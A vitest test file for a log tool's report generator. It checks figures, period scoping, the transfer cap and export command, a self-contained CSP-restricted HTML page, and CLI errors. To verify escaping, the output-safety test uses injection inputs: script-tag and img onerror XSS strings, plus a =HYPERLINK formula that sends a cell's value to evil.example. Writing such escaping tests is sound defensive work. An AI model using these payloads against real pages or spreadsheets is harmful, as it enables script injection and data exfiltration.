/**
 * Reports (docs/reports.md): built from the real ProFTPD fixtures and EFT logs, their numbers are
 * what the search language returns for the same query; values from logs are inert text; the
 * transfer list is capped and names the export that gives the rest; the CLI's options and errors.
 * Rendering in Chromium (HTML and PDF) is test/e2e/report.test.ts.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countRows, iterateRows, type QueryKind } from '../../src-main/core/query/index.js';
import { renderReportHtml } from '../../src-main/core/report/html.js';
import { buildReport, scopeQuery, shellQuote } from '../../src-main/core/report/report.js';
import type { ReportData, ReportProgress, ReportRequest } from '../../src-main/core/report/report-types.js';
import { openDatabase, type Db } from '../../src-main/core/store/db.js';
import { minuteSums } from '../../src-main/core/store/rollup.js';
import { CLI, cliJson, REPO, runCli, tempDir } from '../helpers.js';
import { BULK_TRANSFERS, FORMULA_USER, IMG_PATH, indexReportLogs, SCRIPT_USER, type ReportLogs } from '../report-fixtures.js';

let logs: ReportLogs;
let db: Db;
const out = tempDir('xferlens-report-out-');

beforeAll(() => {
  logs = indexReportLogs();
  db = openDatabase(logs.db, { readonly: true });
});
afterAll(() => {
  db?.close();
  logs?.cleanup();
  fs.rmSync(out, { recursive: true, force: true });
});

const NOW = Date.UTC(2027, 0, 1);
const report = (query: string, extra: Partial<Parameters<typeof buildReport>[1]> = {}) => buildReport(db, { query, timeZone: 'UTC', ...extra }, { now: NOW });
const count = (kind: QueryKind, query: string) => countRows(db, kind, query, { now: NOW, timeZone: 'UTC' });
const sumBytes = (query: string) => [...iterateRows(db, 'transfers', query, { now: NOW })].reduce((n, r) => n + ((r.bytes as number | null) ?? 0), 0);

/** Every number of a report against the search language's own answer for the query it names. */
function expectFiguresMatch(r: ReportData): void {
  for (const f of r.figures) {
    expect(f.count, `${f.id}: ${f.query}`).toBe(count(f.kind, f.query));
    if (f.bytes !== undefined) expect(f.bytes, `${f.id} bytes`).toBe(sumBytes(f.query));
  }
  if (!('notApplicable' in r.transfers)) expect(r.transfers.total).toBe(count('transfers', r.scopeQuery));
  if (!('notApplicable' in r.failedLogins)) {
    const failed = r.figures.find((f) => f.id === 'logins-failed')!.count;
    expect(r.failedLogins.groups.reduce((n, g) => n + g.count, 0)).toBe(failed);
  }
  if (!('notApplicable' in r.top)) {
    for (const u of r.top.users) expect(u.count, `top user ${u.value}`).toBe(count('events', `${r.scopeQuery} user:${JSON.stringify(u.value)}`));
  }
}

describe('report figures', () => {
  it('equal what the search language counts, over everything and over searches', () => {
    const all = report('');
    expect(all.figures.map((f) => f.id)).toEqual(['events', 'sessions', 'logins-ok', 'logins-failed', 'uploads', 'downloads', 'failed-transfers', 'failed-events']);
    expectFiguresMatch(all);
    const byId = Object.fromEntries(all.figures.map((f) => [f.id, f.count]));
    // The fixtures hold real activity of every kind.
    for (const id of ['sessions', 'logins-ok', 'logins-failed', 'uploads', 'downloads', 'failed-transfers']) expect(byId[id], id).toBeGreaterThan(0);
    expect(all.transfers).toMatchObject({ total: count('transfers', '') });
    expect(all.servers.length).toBeGreaterThan(0);
    expect(all.sources.total).toBe(11);
    expect(all.insights.some((i) => i.id === 'failed-login-bursts')).toBe(true);

    for (const q of ['user:alice', 'proto:sftp', 'format:w3c', 'ip:203.0.113.9 OR user:bob', 'file:*.bin -status:failed']) expectFiguresMatch(report(q));
  });

  it('over a period: after:/before: added to the search, the same numbers as typing them', () => {
    const from = Date.UTC(2026, 2, 2), to = Date.UTC(2026, 2, 3);
    const r = report('', { from, to });
    expect(r.scopeQuery).toBe('after:2026-03-02T00:00:00.000Z before:2026-03-03T00:00:00.000Z');
    expect(r.period).toEqual({ from, to });
    expectFiguresMatch(r);
    // Whole minutes of every row are the rollup's sums; a period within minutes groups the rows.
    expect(minuteSums(db, from, to)).not.toBeNull();
    expect(minuteSums(db, from + 1, to)).toBeNull();
    expectFiguresMatch(report('', { from: from + 1, to: to - 1 }));
    expect(r.figures.find((f) => f.id === 'logins-failed')!.count).toBe(6);
    // Only the day's file among the files indexed (and files without times).
    expect(r.sources.list.map((s) => path.basename(s.path))).toContain('u_ex260302.log');
    expect(r.sources.list.map((s) => path.basename(s.path))).not.toContain('u_ex260303.log');
    expect(scopeQuery({ query: 'a OR b', from })).toBe('(a OR b) after:2026-03-02T00:00:00.000Z');
  });

  it('failed logins are grouped by client IP and user with their reasons; failed transfers with their codes explained', () => {
    const r = report('format:w3c');
    if ('notApplicable' in r.failedLogins || 'notApplicable' in r.failedTransfers) throw new Error('applicable');
    const formula = r.failedLogins.groups.find((g) => g.user === FORMULA_USER)!;
    expect(formula).toMatchObject({ clientIp: '203.0.113.9', count: 6 });
    expect(formula.reasons.join(' ')).toMatch(/^530 /);
    const f550 = r.failedTransfers.groups.find((g) => g.code === '550')!;
    expect(f550.count).toBe(count('transfers', 'format:w3c status:failed code:550'));
    expect(f550.explanations[0]).toMatchObject({ code: '550', table: 'ftp' });
  });

  it('a search that does not apply to sessions or transfers leaves their sections out, saying why', () => {
    const r = report('verb:stor');
    expect(r.figures.find((f) => f.id === 'sessions')!.count).toBeNull();
    expect(r.figures.find((f) => f.id === 'uploads')!.count).toBeNull();
    expect(r.transfers).toEqual({ notApplicable: expect.stringMatching(/verb.*transfers/) });
    expect(r.figures.find((f) => f.id === 'events')!.count).toBe(count('events', 'verb:stor'));
    expect(renderReportHtml(r)).toContain('Not applicable to this search');
  });

  it('lists at most maxTransfers transfers, with the count left out and the export command that gives them all', () => {
    const r = report('user:bulk', { maxTransfers: 7 });
    if ('notApplicable' in r.transfers) throw new Error('applicable');
    expect(r.transfers.rows.map((t) => t.path)).toEqual(Array.from({ length: 7 }, (_, i) => `/bulk/transfer-${String(i + 1).padStart(5, '0')}.bin`));
    expect(r.transfers.total).toBe(BULK_TRANSFERS);
    const html = renderReportHtml(r);
    expect(html).toContain(`data-transfers-shown="7" data-transfers-total="${BULK_TRANSFERS}"`);
    expect(html).toContain(`${BULK_TRANSFERS - 7} more are left out`);
    // The command, run as printed (with this test's CLI and database), exports every one of them.
    expect(r.transfers.exportCommand).toBe("xferlens export --kind transfers --query '(user:bulk)' --out transfers.csv");
    const sh = spawnSync('sh', ['-c', r.transfers.exportCommand.replace(/^xferlens export /, `${shellQuote(process.execPath)} ${shellQuote(CLI)} export --db ${shellQuote(logs.db)} `)], { cwd: out, encoding: 'utf8' });
    expect(sh.status, sh.stderr).toBe(0);
    expect(fs.readFileSync(path.join(out, 'transfers.csv'), 'utf8').trim().split('\n')).toHaveLength(BULK_TRANSFERS + 1);
  });
});

describe('report HTML', () => {
  it('holds values from logs as inert text: markup escaped, formulas shown as written', () => {
    const r = report('', { title: '</style><script>alert(1)</script> "Q1" \\ audit' });
    const html = renderReportHtml(r);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<(b|i)>/);
    expect(html).toContain('&lt;script&gt;window.__xss=1&lt;/script&gt;');
    expect(html).toContain('/in/&lt;img src=x onerror=window.__xss=2&gt;.txt');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)');
    // The title in the page margins is a CSS string of escapes, which cannot end the style element.
    expect(html.match(/<\/style>/g)).toHaveLength(1);
    expect(html).toContain('<title>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt; &quot;Q1&quot; \\ audit</title>');
    expect(SCRIPT_USER.length + IMG_PATH.length).toBeGreaterThan(0);
  });

  it('is self-contained: no scripts, no requests, its style allowed by hash, no path of the database', () => {
    const html = renderReportHtml(report(''));
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1]!.replaceAll('&#39;', "'");
    expect(csp).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; img-src data:/);
    expect(html).not.toMatch(/<[^>]*\s(src|href)=/i);
    expect(html).not.toMatch(/@import|url\(/i);
    expect(html).toContain('<svg class="chart"');
    expect(html).not.toContain(path.dirname(logs.db));
    // The logs it names are there, with their folder.
    expect(html).toContain(path.join(logs.logs, 'u_ex260302.log'));
  });
});

describe('a report whose insights a worker reads', () => {
  // The worker is compiled JavaScript (core/report/make.ts): the modules are loaded from dist here.
  const dist = (p: string) => pathToFileURL(path.join(REPO, 'dist', 'src-main', 'core', p)).href;
  type Make = typeof import('../../src-main/core/report/make.js');
  type Store = typeof import('../../src-main/core/store/db.js');

  it('is the report one thread makes, its progress told the same; a worker that fails fails the report', async () => {
    const make = (await import(dist('report/make.js'))) as Make;
    const store = (await import(dist('store/db.js'))) as Store;
    const d = store.openDatabase(logs.db, { readonly: true });
    try {
      const made = async (req: ReportRequest, minEvents: number) => {
        const steps: ReportProgress[] = [];
        const { data } = await make.makeReport(d, req, { format: 'html', now: NOW, threads: { minEvents }, onProgress: (p) => steps.push(p) });
        return { data, steps };
      };
      for (const req of [{ query: '', timeZone: 'UTC' }, { query: 'user:alice', timeZone: 'UTC', from: Date.UTC(2026, 0, 1), to: Date.UTC(2027, 0, 1) }]) {
        const threaded = await made(req, 0);
        const alone = await made(req, Number.MAX_SAFE_INTEGER);
        expect(threaded).toEqual(alone);
        // Insights of both threads fired, in their order.
        expect(threaded.data.insights.map((i) => i.id)).toEqual(expect.arrayContaining(['failed-login-bursts', 'largest-transfers']));
        expect(threaded.steps.map((p) => p.step)).toEqual([0, 1, 2, 3, 4, 5, 6]);
      }
      // The worker opens the database with the build it is given: a wrong one is the report's error.
      await expect(make.makeReport(d, { query: '', timeZone: 'UTC' }, { format: 'html', threads: { minEvents: 0, nativeBinding: path.join(out, 'missing.node') } }))
        .rejects.toThrow(/missing\.node/);
    } finally {
      d.close();
    }
  });
});

describe('xferlens report', () => {
  it('writes an HTML report and prints its figures with --json', () => {
    const file = path.join(out, 'r.html');
    const json = cliJson(['report', '--db', logs.db, '--tz', 'UTC', '--query', 'user:alice', '--from', '2026-01-01', '--to', '2027-01-01', '--title', 'Alice', '--out', file]);
    expect(json).toMatchObject({ file, format: 'html', query: '(user:alice) after:2026-01-01T00:00:00.000Z before:2027-01-01T00:00:00.000Z' });
    for (const [id, v] of Object.entries(json.figures as Record<string, number | { count: number }>)) {
      const kind = id === 'sessions' ? 'sessions' : ['uploads', 'downloads', 'failed-transfers'].includes(id) ? 'transfers' : 'events';
      const term = { events: '', sessions: '', 'logins-ok': 'dir:login status:success', 'logins-failed': 'dir:login status:failed', uploads: 'dir:upload', downloads: 'dir:download', 'failed-transfers': 'status:failed', 'failed-events': 'status:failed' }[id];
      const cmd = kind === 'events' ? 'search' : kind;
      expect(typeof v === 'number' ? v : v.count, id).toBe(cliJson([cmd, '--db', logs.db, '--limit', '1', `${json.query} ${term}`]).total);
    }
    const html = fs.readFileSync(file, 'utf8');
    expect(html).toContain('<h1>Alice</h1>');
    expect(fs.statSync(file).mode & 0o077).toBe(0);
    expect(fs.existsSync(`${file}.partial`)).toBe(false);
  });

  it('refuses wrong options with exit code 2, and points at a mistake in the search', () => {
    const err = (args: string[]) => {
      const r = runCli(['report', '--db', logs.db, ...args]);
      return { status: r.status, stderr: r.stderr };
    };
    expect(err([])).toEqual({ status: 2, stderr: expect.stringMatching(/report needs --out FILE/) });
    expect(err(['--out', 'x.docx', '--format', 'docx'])).toEqual({ status: 2, stderr: expect.stringMatching(/--format must be html or pdf/) });
    expect(err(['--out', 'x.html', '--from', 'last tuesday'])).toEqual({ status: 2, stderr: expect.stringMatching(/--from wants a date/) });
    expect(err(['--out', 'x.html', '--from', '2026-02-01', '--to', '2026-01-01'])).toEqual({ status: 2, stderr: expect.stringMatching(/--from must be before --to/) });
    expect(err(['--out', 'x.pdf', '--paper', 'a3'])).toEqual({ status: 2, stderr: expect.stringMatching(/--paper must be a4 or letter/) });
    expect(err(['--out', 'x.html', '--max-transfers', '0'])).toEqual({ status: 2, stderr: expect.stringMatching(/--max-transfers wants/) });
    const syntax = err(['--out', path.join(out, 'x.html'), '--query', 'user:test usr:x']);
    expect(syntax.status).toBe(2);
    expect(syntax.stderr).toContain('unknown field "usr" at column 11');
    expect(syntax.stderr).toContain('\n  user:test usr:x\n            ^');
    expect(fs.existsSync(path.join(out, 'x.html'))).toBe(false);
  });

  it('says what to install when there is no Chromium for a PDF, and writes nothing', () => {
    const file = path.join(out, 'none.pdf');
    const r = runCli(['report', '--db', logs.db, '--out', file], { env: { XFERLENS_CHROMIUM: path.join(out, 'no-such-chromium') } });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/a PDF report needs Chromium.*apt-get install chromium.*XFERLENS_CHROMIUM.*--format html/);
    expect(fs.existsSync(file)).toBe(false);
    expect(fs.existsSync(`${file}.partial`)).toBe(false);
  });
});
